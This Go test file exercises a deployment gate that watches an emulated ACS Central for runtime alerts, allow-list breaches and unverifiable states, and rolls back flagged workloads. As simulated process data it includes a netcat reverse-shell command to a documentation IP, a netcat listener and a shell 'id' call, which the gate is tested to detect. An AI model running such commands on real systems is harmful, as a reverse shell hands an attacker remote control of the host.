// Package runtimewatch runs the runtime gate's engine, gate.WatchRuntime,
// with the real ACS client against the ACS Central emulator (a test
// double: ACS cannot run here), over HTTPS on loopback. The Kubernetes
// side (finding the Deployment, scaling it) is the e2e tests' business;
// here the workload is given by UID.
package runtimewatch

import (
	"context"
	"path/filepath"
	"runtime"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/modelguard/modelguard/pkg/acs"
	"github.com/modelguard/modelguard/pkg/gate"
	"github.com/modelguard/modelguard/test/acsemulator"
)

const (
	token     = "watch-token-not-a-secret"
	uid       = "0c9e8d7f-6a5b-4c3d-9e2f-1a0b9c8d7e6f"
	canaryUID = "1d0f9e8a-7b6c-4d5e-8f3a-2b1c0d9e8f7a"
	container = "kserve-container"
)

// workloads is the Kubernetes side as the engine sees it: fixed targets,
// and a record of what a rollback scaled.
type workloads struct {
	targets []gate.Target
	mu      sync.Mutex
	scaled  []string
}

func (w *workloads) Resolve(context.Context) ([]gate.Target, error) { return w.targets, nil }

func (w *workloads) ScaleToZero(_ context.Context, ts []gate.Target) ([]string, error) {
	w.mu.Lock()
	defer w.mu.Unlock()
	for _, t := range ts {
		w.scaled = append(w.scaled, t.Namespace+"/"+t.Name)
	}
	return w.scaled, nil
}

type env struct {
	central *acsemulator.Server
	client  *acs.Client
	wl      *workloads
}

func start(t *testing.T) *env {
	t.Helper()
	_, file, _, _ := runtime.Caller(0)
	data, err := acsemulator.Load(filepath.Join(filepath.Dir(file), "..", "acsemulator", "testdata", "central.yaml"))
	if err != nil {
		t.Fatal(err)
	}
	s := acsemulator.Start(t, data, token)
	s.SetRuntimeDelays(200*time.Millisecond, 300*time.Millisecond)
	e := &env{central: s, client: newClient(t, s, token),
		wl: &workloads{targets: []gate.Target{{UID: uid, Name: "granite-predictor", Namespace: "fraud-prod"}}}}
	e.deploy(t, uid, "granite-predictor")
	return e
}

func newClient(t *testing.T, s *acsemulator.Server, tok string) *acs.Client {
	c, err := acs.New(acs.Config{Endpoint: s.Endpoint, Token: tok, CACert: s.CAPEM, RetryBaseDelay: 10 * time.Millisecond, RetryMaxDelay: 50 * time.Millisecond})
	if err != nil {
		t.Fatal(err)
	}
	return c
}

func (e *env) deploy(t *testing.T, id, name string) {
	t.Helper()
	if err := e.central.AddDeployment(acsemulator.Workload{UID: id, Name: name, Namespace: "fraud-prod",
		Containers: []acsemulator.WorkloadContainer{{Name: container, Image: "quay.io/acme-ml/sentiment-serving@sha256:7a76fabd5156c138e5a4921ba468b32c8fee33b4360b3fd6c3899117d95ebea5"}}}); err != nil {
		t.Fatal(err)
	}
}

func (e *env) exec(t *testing.T, id, path, args string) {
	t.Helper()
	if err := e.central.Exec(acsemulator.Process{DeploymentUID: id, Container: container, ExecPath: path, Args: args}); err != nil {
		t.Fatal(err)
	}
}

// input is a short watch: a 1.5 s window, 0.5 s grace, polls every 100 ms.
func (e *env) input(p gate.RuntimePolicy) gate.WatchInput {
	return gate.WatchInput{Workloads: e.wl, Start: time.Now(), Policy: p,
		Timing: gate.Timing{Window: 1500 * time.Millisecond, Grace: 500 * time.Millisecond, Poll: 100 * time.Millisecond}}
}

func (e *env) watch(t *testing.T, c *acs.Client, in gate.WatchInput) (gate.RuntimeReport, time.Duration, []gate.WatchProgress) {
	t.Helper()
	var mu sync.Mutex
	var phases []gate.WatchProgress
	begin := time.Now()
	r, err := gate.WatchRuntime(context.Background(), c, in, func(p gate.WatchProgress) {
		mu.Lock()
		defer mu.Unlock()
		phases = append(phases, p)
	})
	if err != nil {
		t.Fatal(err)
	}
	return r, time.Since(begin), phases
}

func want(t *testing.T, r gate.RuntimeReport, v gate.RuntimeVerdict, reason string, msgs ...string) {
	t.Helper()
	if r.Decision != v || r.Reason != reason {
		t.Fatalf("verdict %s/%s %q; want %s/%s", r.Decision, r.Reason, r.Message, v, reason)
	}
	for _, m := range msgs {
		if !strings.Contains(r.Message, m) {
			t.Errorf("message %q does not contain %q", r.Message, m)
		}
	}
}

func TestCleanRolloutPassesAfterTheWindow(t *testing.T) {
	e := start(t)
	e.exec(t, uid, "/usr/bin/modelguard", "serve --models /mnt/models")
	in := e.input(gate.RuntimePolicy{})
	r, took, phases := e.watch(t, e.client, in)
	want(t, r, gate.RuntimePass, "", "1 process(es) seen")
	if took < in.Window+in.Grace {
		t.Errorf("passed after %s, before the window and grace (%s) were over", took, in.Window+in.Grace)
	}
	var names []string
	for _, p := range phases {
		if len(names) == 0 || names[len(names)-1] != p.Phase {
			names = append(names, p.Phase)
		}
	}
	if got := strings.Join(names, ","); !strings.HasPrefix(got, "Resolving,Discovering,Watching") || !strings.HasSuffix(got, "Grace") {
		t.Errorf("phases %s", got)
	}
}

// A runtime alert fails at once, names the policy and the process, and
// rolls back; an alert of another deployment named with the same prefix
// does not count.
func TestRuntimeAlertFailsFastAndRollsBack(t *testing.T) {
	e := start(t)
	e.deploy(t, canaryUID, "granite-predictor-canary")
	e.exec(t, canaryUID, "/usr/bin/nc", "-l 4444")
	e.exec(t, uid, "/usr/bin/modelguard", "serve")
	go func() {
		time.Sleep(400 * time.Millisecond)
		_ = e.central.Exec(acsemulator.Process{DeploymentUID: uid, Container: container, ExecPath: "/usr/bin/nc", Args: "-e /bin/sh 203.0.113.7 4444", Pod: "granite-predictor-abc12"})
	}()
	in := e.input(gate.RuntimePolicy{})
	in.OnFail = gate.OnFailScaleToZero
	r, took, _ := e.watch(t, e.client, in)
	want(t, r, gate.RuntimeFail, gate.ReasonRuntimeViolation, `"Netcat Execution Detected" (HIGH, RUNTIME, ACTIVE) on granite-predictor`,
		"process /usr/bin/nc -e /bin/sh 203.0.113.7 4444 in container kserve-container of pod granite-predictor-abc12", "rolled back")
	if took > in.Window {
		t.Errorf("failed after %s: not at once", took)
	}
	if len(r.Findings) != 1 || r.Findings[0].Deployment != "granite-predictor" || len(e.wl.scaled) != 1 || e.wl.scaled[0] != "fraud-prod/granite-predictor" {
		t.Errorf("findings %+v, scaled %v", r.Findings, e.wl.scaled)
	}
}

func TestProcessOutsideTheAllowList(t *testing.T) {
	e := start(t)
	e.exec(t, uid, "/usr/bin/modelguard", "serve")
	e.exec(t, uid, "/bin/sh", "-c id")
	allow, err := gate.ParseProcessAllow([]string{container + ":/usr/bin/modelguard"})
	if err != nil {
		t.Fatal(err)
	}
	r, _, _ := e.watch(t, e.client, e.input(gate.RuntimePolicy{Allow: allow}))
	want(t, r, gate.RuntimeFail, gate.ReasonProcessNotAllowed, "kserve-container ran /bin/sh, which is not on the allow-list")
}

// What cannot be verified is inconclusive, not a pass.
func TestInconclusive(t *testing.T) {
	e := start(t)
	e.central.AddToken("ci-only", map[string]string{"Image": "READ_WRITE_ACCESS", "Detection": "READ_ACCESS", "Deployment": "READ_ACCESS",
		"DeploymentExtension": "READ_ACCESS", "Cluster": "READ_ACCESS"})
	e.central.AddToken("dev-scope", map[string]string{"Alert": "READ_ACCESS", "Deployment": "READ_ACCESS",
		"DeploymentExtension": "READ_ACCESS", "Cluster": "READ_ACCESS"}, "fraud-dev")
	e.exec(t, uid, "/usr/bin/modelguard", "serve")

	t.Run("token without Alert read", func(t *testing.T) {
		calls := e.central.Calls("/v1/alerts")
		in := e.input(gate.RuntimePolicy{})
		r, took, _ := e.watch(t, newClient(t, e.central, "ci-only"), in)
		want(t, r, gate.RuntimeInconclusive, gate.ReasonMissingPermissions, "cannot read Alert")
		// It can never pass: it says so at once, without asking for
		// alerts it may not read.
		if took >= in.Window || e.central.Calls("/v1/alerts") != calls {
			t.Errorf("took %s and listed alerts %d times", took, e.central.Calls("/v1/alerts")-calls)
		}
	})
	t.Run("token whose scope leaves the namespace out", func(t *testing.T) {
		r, _, _ := e.watch(t, newClient(t, e.central, "dev-scope"), e.input(gate.RuntimePolicy{}))
		want(t, r, gate.RuntimeInconclusive, gate.ReasonDeploymentNotSeen, "never reported deployment fraud-prod/granite-predictor")
	})
	t.Run("a deployment Central never reports", func(t *testing.T) {
		in := e.input(gate.RuntimePolicy{})
		in.Workloads = &workloads{targets: []gate.Target{{UID: "2e1a0f9b-8c7d-4e6f-9a4b-3c2d1e0f9a8b", Name: "ghost", Namespace: "fraud-prod"}}}
		r, _, _ := e.watch(t, e.client, in)
		want(t, r, gate.RuntimeInconclusive, gate.ReasonDeploymentNotSeen, "ghost")
	})
	t.Run("no process reaches Central", func(t *testing.T) {
		e.deploy(t, canaryUID, "quiet")
		in := e.input(gate.RuntimePolicy{})
		in.Workloads = &workloads{targets: []gate.Target{{UID: canaryUID, Name: "quiet", Namespace: "fraud-prod"}}}
		r, _, _ := e.watch(t, e.client, in)
		want(t, r, gate.RuntimeInconclusive, gate.ReasonNoProcessesSeen)
		in.Policy.AcceptInconclusive = []string{gate.ReasonNoProcessesSeen}
		r, _, _ = e.watch(t, e.client, in)
		if r.Decision != gate.RuntimeInconclusive || !r.Accepted {
			t.Errorf("accepted: %+v", r)
		}
	})
	t.Run("collector unhealthy", func(t *testing.T) {
		if err := e.central.SetClusterHealth(e.central.ClusterID(), "", "UNHEALTHY"); err != nil {
			t.Fatal(err)
		}
		defer e.central.SetClusterHealth(e.central.ClusterID(), "", "HEALTHY")
		r, _, _ := e.watch(t, e.client, e.input(gate.RuntimePolicy{}))
		want(t, r, gate.RuntimeInconclusive, gate.ReasonSensorUnhealthy, "Collector UNHEALTHY")
	})
}

// Central failing now and then is retried; failing for the whole watch is
// inconclusive, and the watch still ends.
func TestCentralErrors(t *testing.T) {
	e := start(t)
	e.exec(t, uid, "/usr/bin/modelguard", "serve")
	e.central.FailNext("/v1/alerts", 3, 503, "", acsemulator.ErrorBody(14, "central restarting"))
	r, _, _ := e.watch(t, e.client, e.input(gate.RuntimePolicy{}))
	want(t, r, gate.RuntimePass, "")

	e.central.FailNext("/v1/alerts", 1<<20, 503, "", acsemulator.ErrorBody(14, "central down"))
	in := e.input(gate.RuntimePolicy{})
	r, took, _ := e.watch(t, e.client, in)
	want(t, r, gate.RuntimeInconclusive, gate.ReasonCentralUnavailable, "central down")
	if took > 2*(in.Window+in.Grace)+5*time.Second {
		t.Errorf("gave up only after %s", took)
	}
}

// A watch repeated after a restart covers the window its start time says:
// started long enough ago, it decides at its first poll.
func TestRepeatedWatchKeepsItsWindow(t *testing.T) {
	e := start(t)
	e.exec(t, uid, "/usr/bin/modelguard", "serve")
	time.Sleep(400 * time.Millisecond) // Central has the deployment and its process
	in := e.input(gate.RuntimePolicy{})
	in.Start = time.Now().Add(-in.Window - in.Grace - time.Second)
	r, took, _ := e.watch(t, e.client, in)
	want(t, r, gate.RuntimePass, "")
	if took > time.Second {
		t.Errorf("a watch whose window is over took %s", took)
	}
}

// Cancel ends the watch at once, between polls and in the middle of a
// call that Central takes a minute to answer.
func TestCancelEndsTheWatchAtOnce(t *testing.T) {
	e := start(t)
	for _, latency := range []time.Duration{0, time.Minute} {
		e.central.SetRuntimeLatency(latency)
		in := e.input(gate.RuntimePolicy{})
		in.Window = time.Hour
		ctx, cancel := context.WithCancel(context.Background())
		time.AfterFunc(300*time.Millisecond, cancel)
		begin := time.Now()
		_, err := gate.WatchRuntime(ctx, e.client, in, nil)
		if err == nil || time.Since(begin) > 2*time.Second {
			t.Fatalf("Central latency %s: after %s: %v", latency, time.Since(begin), err)
		}
	}
}
